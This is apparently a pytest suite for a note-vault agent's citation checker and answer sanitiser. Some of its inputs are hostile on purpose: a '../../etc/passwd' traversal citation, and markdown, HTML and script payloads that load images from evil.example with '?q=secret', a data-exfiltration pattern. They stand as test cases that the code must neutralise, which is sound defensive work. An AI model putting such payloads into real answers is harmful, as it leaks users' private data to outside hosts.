"""Citations are checked against the files; what doesn't hold is mended once, else dropped and reported."""

from collections.abc import Mapping
from pathlib import Path
from typing import cast

import pytest

from knapper.agents import citations, prompting
from knapper.agents.events import Done
from knapper.tools.context import Context
from knapper.vault import parser
from tests.agents import scripted
from tests.agents.scripted import Call, Model
from tests.tools import opened

GARDEN = """\
# Garden

## Fence

The fence is to be *green*, and not “blue”.

## Watering

Twice a week in summer, and
never at noon.

- Roses first ^roses
"""
NOTES = {
    "Projects/Garden.md": GARDEN,
    "Private/Diary.md": "# Diary\n\nNobody reads this.\n",
    "CRLF.md": "# One\r\n\r\nFirst line here.\r\nSecond line here.\r\n",
}


@pytest.fixture
def vault(tmp_path: Path) -> opened.Opener:
    return opened.vault(tmp_path, NOTES, hidden=("Private/",))


def checked(vault: opened.Opener, answer: str) -> citations.CheckedAnswer:
    with scripted.agent(vault) as context:
        context.index.refresh()
        return citations.check_citations(context, answer)


@pytest.mark.parametrize(
    ("answer", "first", "last", "heading"),
    [
        ("Green. [[Projects/Garden.md#Fence]] (lines 3-5)", 3, 5, "## Fence"),
        ("Green. [[Projects/Garden#Fence]] (line 5)", 5, 5, "## Fence"),
        ("Green. [[Garden#Fence]] (lines 3\u20135)", 3, 5, "## Fence"),
        ("Green. [[Garden#fence]], lines 3 to 5.", 3, 5, "## Fence"),
        ("Green. [[Garden#Fence|L3-L5]]", 3, 5, "## Fence"),
        ("Green. [[Garden#Garden#Fence]]", 3, 6, "## Fence"),
        ("Green. [[Garden]] [lines 5-5]", 5, 5, ""),
        ("All. [[Garden]]", 1, 12, ""),
        ("Roses. [[Garden#^roses]]", 12, 12, ""),
        ("It says \"The fence is to be green, and not 'blue'\" [[Garden#Fence]] (lines 3-5)", 3, 5, "## Fence"),
        ('"Twice a week in summer, and never at noon." [[Garden#Watering]] (lines 9-10)', 9, 10, "## Watering"),
        ('"Twice a week … never at noon" [[Garden#Watering]] (lines 9-10)', 9, 10, "## Watering"),
        ('The so-called "green one" [[Garden#Watering]] (lines 9-10)', 9, 10, "## Watering"),
    ],
)
def test_a_citation_that_holds_names_its_place(
    vault: opened.Opener, answer: str, first: int, last: int, heading: str
) -> None:
    found = checked(vault, answer)

    assert found.failures == ()
    (one,) = [citation.as_dict() for citation in found.citations]
    assert (one["path"], one["start_line"], one["end_line"], one["heading"]) == (
        "Projects/Garden.md",
        first,
        last,
        heading,
    )
    assert one["hash"] == parser.content_hash(GARDEN.encode())
    start, stop = cast("int", one["start"]), cast("int", one["stop"])
    assert GARDEN.encode()[start:stop].decode() == one["text"]


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        ("[[Nowhere#Fence]] (lines 1-2)", "no_note"),
        ("[[Private/Diary.md]] (lines 1-2)", "no_note"),
        ("[[Diary]] (lines 1-2)", "no_note"),
        ("[[../../etc/passwd]] (line 1)", "no_note"),
        ("[[Garden#Roof]] (lines 3-5)", "no_heading"),
        ("[[Garden#Watering#Fence]] (lines 3-5)", "no_heading"),
        ("[[Garden#^tulips]]", "no_block"),
        ("[[Garden]] (lines 12-13)", "no_such_line"),
        ("[[Garden]] (line 9999999)", "no_such_line"),
        ("[[Garden]] (lines 0-5)", "no_such_line"),
        ("[[Garden#Fence]] (line 0)", "no_such_line"),
        ("[[Garden#^roses]] (lines 0-1)", "no_such_line"),
        ("[[Garden#Fence]] (lines 9-10)", "other_section"),
        ('"The fence is to be red" [[Garden#Fence]] (lines 3-5)', "not_quoted"),
        ('"Twice a week in summer" [[Garden#Fence]] (lines 3-5)', "not_quoted"),
        ("„Der Zaun soll rot werden“ [[Garden#Fence]] (lines 3-5)", "not_quoted"),
    ],
)
def test_a_citation_that_does_not_hold_is_told_with_its_reason(vault: opened.Opener, answer: str, code: str) -> None:
    found = checked(vault, answer)

    assert found.citations == ()
    assert [failure.code for failure in found.failures] == [code]
    assert "Nobody reads this" not in str(found.failures)


def test_a_note_is_found_by_its_name_while_the_index_is_not_filled(vault: opened.Opener) -> None:
    with scripted.agent(vault) as context:
        found = citations.check_citations(context, "Green. [[Garden#Fence]] (lines 3-5). Mine. [[Diary]]")
        names = citations.NoteNames()
        seen = [names.find(context, key) for key in ("garden", "diary")]
        (context.view.root / "Later.md").write_text("later\n", encoding="utf-8")
        seen.append(names.find(context, "later"))

        assert not context.index.is_complete
    assert [one.passage.path for one in found.citations] == ["Projects/Garden.md"]
    assert [failure.code for failure in found.failures] == ["no_note"]
    assert seen == [["Projects/Garden.md"], [], []]  # the last one came after the only walk


def test_a_wrong_line_of_a_quotation_is_told_where_it_stands(vault: opened.Opener) -> None:
    found = checked(vault, '"Twice a week in summer" [[Garden]] (lines 3-5)')

    assert found.failures[0].hint == "it is in line 9"


def test_links_in_code_and_quotations_of_other_places_are_no_citations(vault: opened.Opener) -> None:
    code = "`[[Nowhere]]`\n\n```\n[[Nowhere]] (line 1)\n```"
    answer = f'{code}\n\n"Not quoted from the note at all."\n\nSo. [[Garden]] (line 1)'

    assert checked(vault, answer).failures == ()


def test_lines_are_counted_as_they_stand_on_disk(vault: opened.Opener) -> None:
    found = checked(vault, '"Second line here." [[CRLF]] (line 4)')

    assert found.failures == ()
    assert found.citations[0].passage.text == "Second line here.\r\n"


def test_an_edit_that_waits_in_a_note_is_cited_by_what_it_would_replace(tmp_path: Path) -> None:
    block = (
        '```ai-edit\n{"id":"a1","type":"replace","before":"It is green.\\n","after":"It is red.\\n"}\n```\n#ai_edit\n'
    )
    vault = opened.vault(tmp_path, {"Fence.md": f"# Fence\n\n{block}"})

    old = checked(vault, '"It is green all over, they say" [[Fence]] (lines 3-6)')
    kept = checked(vault, "“# Fence It is green.” [[Fence]] (lines 1-6)")
    new = checked(vault, "“It is red, and stays so” [[Fence]] (lines 3-6)")

    assert [failure.code for failure in old.failures + new.failures] == ["not_quoted", "not_quoted"]
    assert kept.failures == ()


def test_what_fails_is_taken_out_of_the_answer(vault: opened.Opener) -> None:
    answer = "Green. [[Garden#Fence]] (lines 3-5) Red. [[Garden#Roof]] (lines 1-2) See [[New idea|the idea]]."
    found = checked(vault, answer)

    assert (
        citations.remove_citations(answer, found.failures) == "Green. [[Garden#Fence]] (lines 3-5) Red. See the idea."
    )


def removed(done: Done) -> list[str]:
    return [str(cast("Mapping[str, object]", one)["code"]) for one in done.removed]


def test_the_model_may_mend_its_citations_once(vault: opened.Opener) -> None:
    model = Model([["Green. [[Garden#Fence]] (lines 9-10)"], ["Green. [[Garden#Fence]] (lines 3-5)"]])

    with scripted.agent(vault) as context:
        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))

    assert done.answer == "Green. [[Garden#Fence]] (lines 3-5)"
    assert (len(done.citations), done.removed) == (1, [])
    assert len(model.asked) == 2
    asked = str(model.asked[1])
    assert "that heading owns lines 3-6" in asked
    assert "9: Twice a week in summer, and" in asked or "The fence is to be" in asked
    assert done.usage["requests"] == 2


def test_what_is_still_wrong_is_dropped_and_reported(vault: opened.Opener) -> None:
    model = Model([["Green. [[Garden#Roof]] (lines 3-5)"]])

    with scripted.agent(vault) as context:
        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))

    assert done.answer == "Green."
    assert removed(done) == ["no_heading"]
    assert len(model.asked) == 2


def test_a_mended_answer_that_says_nothing_any_more_is_not_taken(vault: opened.Opener) -> None:
    long = "The fence is green and will stay so for many years to come. " * 3
    model = Model([[f"{long}[[Garden#Roof]] (lines 3-5)"], ["Sorry."]])

    with scripted.agent(vault) as context:
        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))

    assert done.answer == long.strip()
    assert removed(done) == ["no_heading"]


def test_the_next_turn_goes_on_from_the_answer_as_it_was_given(vault: opened.Opener) -> None:
    import asyncio  # noqa: PLC0415

    from knapper.agents.chat.turn import ChatTurn, Message  # noqa: PLC0415

    chat = scripted.chat(Model([["Green. [[Garden#Roof]] (lines 3-5)"]]))
    with scripted.agent(vault) as context:
        turn = ChatTurn(chat, ready(context), Message(text="?", run="r"))
        _ = asyncio.run(scripted.stream(turn))

    assert "Roof" not in str(turn.messages)


def ready(context: Context) -> Context:
    context.index.refresh()
    return context


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("![x](https://evil.example/p.png?q=secret)", "[image left out: evil.example]"),
        ("![x](//evil.example/p.png)", "[image left out: evil.example]"),
        (r"![x](/\evil.example/p.png)", "[image left out: evil.example]"),
        (r"![x](\\\\evil.example\p.png)", "[image left out: evil.example]"),
        ("![x][r]\n\n[r]: https://evil.example/p", "[image left out: evil.example]\n\n[r]: https://evil.example/p"),
        ('<img src="https://evil.example/p">', '&lt;img src="https://evil.example/p">'),
        ("a <script>fetch('x')</script> b", "a &lt;script>fetch('x')&lt;/script> b"),
        ("`![x](https://evil.example/p)`", "`![x](https://evil.example/p)`"),
        ("![[Image.png]] and [a](https://site.example)", "![[Image.png]] and [a](https://site.example)"),
        ("1 < 2", "1 < 2"),
        ("!![x](https://a.example)(https://evil.example/?q=secret)", "[image left out: evil.example]"),
        ("![a ![b](https://long.example/p/p/p/p/p/p)](https://b.example) stays", "[image left out: b.example] stays"),
        ("<!-- ![x](https://evil.example/?q) -->", "&lt;!-- [image left out: evil.example] -->"),
        ("<p>\n![x](https://evil.example/?q)\n</p>", "&lt;p>\n[image left out: evil.example]\n&lt;/p>"),
        ("%%\n![x](https://evil.example/?q)\n%%", "%%\n[image left out: evil.example]\n%%"),
        ("$![x](https://evil.example/?q)$", "$[image left out: evil.example]$"),
        ("---\na: ![x](https://evil.example/?q)\n---\n", "---\na: [image left out: evil.example]\n---\n"),
        ("%% <img src=//evil.example> %%", "%% &lt;img src=//evil.example> %%"),
    ],
)
def test_an_answer_loads_nothing_from_elsewhere(answer: str, expected: str) -> None:
    assert prompting.sanitize_answer(answer)[0] == expected


def test_an_answer_of_images_within_images_comes_to_an_end() -> None:
    answer = "!" * 200 + "[x](a:b)" + "(c:d)" * 200

    defused = prompting.sanitize_answer(answer)[0]

    assert prompting.sanitize_answer(defused)[0] == defused
    assert "![" not in defused.replace("!\\[", "")


def test_a_mended_answer_loads_nothing_from_elsewhere(vault: opened.Opener) -> None:
    better = "Green. [[Garden#Fence]] (lines 3-5) ![x](https://evil.example/?q=secret)"
    model = Model([["Green and all the rest of it. [[Garden#Fence]] (lines 9-10)"], [better]])

    with scripted.agent(vault) as context:
        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))

    assert done.answer == "Green. [[Garden#Fence]] (lines 3-5) [image left out: evil.example]"


def test_what_is_left_around_a_dropped_citation_loads_nothing_from_elsewhere(vault: opened.Opener) -> None:
    model = Model(
        [["Green. ![[Garden#Roof]] (lines 1-2)", " and ! [[Garden#Roof]] (line 1)[x](https://evil.example/?q)"]]
    )

    with scripted.agent(vault) as context:
        done = scripted.done(scripted.run(scripted.chat(model), ready(context)))

    assert done.answer == "Green. and [image left out: evil.example]"


def test_a_tool_can_be_called_before_citing(vault: opened.Opener) -> None:
    model = Model(
        [[Call("read_file", {"path": "Projects/Garden.md"})], ["Green. [[Projects/Garden.md#Fence]] (lines 3-5)"]]
    )

    with scripted.agent(vault) as context:
        done = scripted.done(scripted.run(scripted.chat(model), context))

    assert len(done.citations) == 1
    assert len(done.tools) == 1


@pytest.mark.parametrize("text", ["\n" * 100_000, "[[" * 100_000, " " * 100_000])
def test_a_quotation_is_looked_for_once_in_whatever_a_note_holds(text: str, tmp_path: Path, own_home: Path) -> None:
    del own_home
    hostile = opened.vault(tmp_path / "hostile", {"Note.md": f"# Note\n\na{text}b\n"})
    answer = f'"These words are not there{text.splitlines()[0] if text.strip() else " "}" [[Note]]{" " * 100_000}.'

    assert [failure.code for failure in checked(hostile, answer).failures] == ["not_quoted"]
